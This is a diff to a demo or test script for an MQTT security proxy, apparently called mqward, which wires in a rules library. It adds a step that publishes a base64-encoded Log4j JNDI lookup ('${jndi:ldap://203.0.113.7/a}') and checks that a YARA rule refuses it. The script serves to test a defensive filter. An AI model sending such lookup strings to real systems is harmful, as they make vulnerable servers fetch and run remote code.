@@ -129,7 +129,7 @@ wait_for 10 "Mosquitto on port $BROKER_PORT" grep -q running mosquitto.log
 wait_for 10 "Redis on port $REDIS_PORT" redis-cli -p "$REDIS_PORT" ping
 
 cp "$SOURCE/examples/quickstart/policy.yaml" .
-sed "s/@BROKER_PORT@/$BROKER_PORT/; s/@REDIS_PORT@/$REDIS_PORT/" "$SOURCE/examples/quickstart/mqward.yaml" >mqward.yaml
+sed "s/@BROKER_PORT@/$BROKER_PORT/; s/@REDIS_PORT@/$REDIS_PORT/; s|@RULES@|$SOURCE/rules/library|" "$SOURCE/examples/quickstart/mqward.yaml" >mqward.yaml
 "$MQWARD" check -c mqward.yaml || fail "the configuration is not good"
 "$MQWARD" run -c mqward.yaml 2>mqward.log &
 PIDS+=($!)
@@ -168,7 +168,14 @@ if grep -q secret operator.log; then fail "the secret arrived"; fi
 echo "   operator-eva received in all: $(tr '\n' ';' <operator.log)"
 event '.event.action == "mqtt-delivery-filtered"'
 
-title "8. One event as the SIEM reads it (XRANGE mqward:audit)"
+title "8. A payload that a YARA rule knows is refused: a lookup for Log4j, in base64"
+LOOKUP=$(printf '{"name":"${jndi:ldap://203.0.113.7/a}"}' | base64 -w 0)
+as sensor-17 mosquitto_pub -q 1 -t plant/sensor-17/status -m "{\"config\":\"$LOOKUP\"}" >scan.log 2>&1 || true
+grep -q 'Payload format invalid' scan.log || fail "the payload was not refused: $(cat scan.log)"
+sed 's/^/   mosquitto_pub: /' scan.log
+event '.event.action == "mqtt-payload-matched"'
+
+title "9. One event as the SIEM reads it (XRANGE mqward:audit)"
 redis-cli --json -p "$REDIS_PORT" XRANGE mqward:audit - + |
     jq '[.[][1][1] | fromjson | select(.event.action == "mqtt-publish-denied")] | last'
 
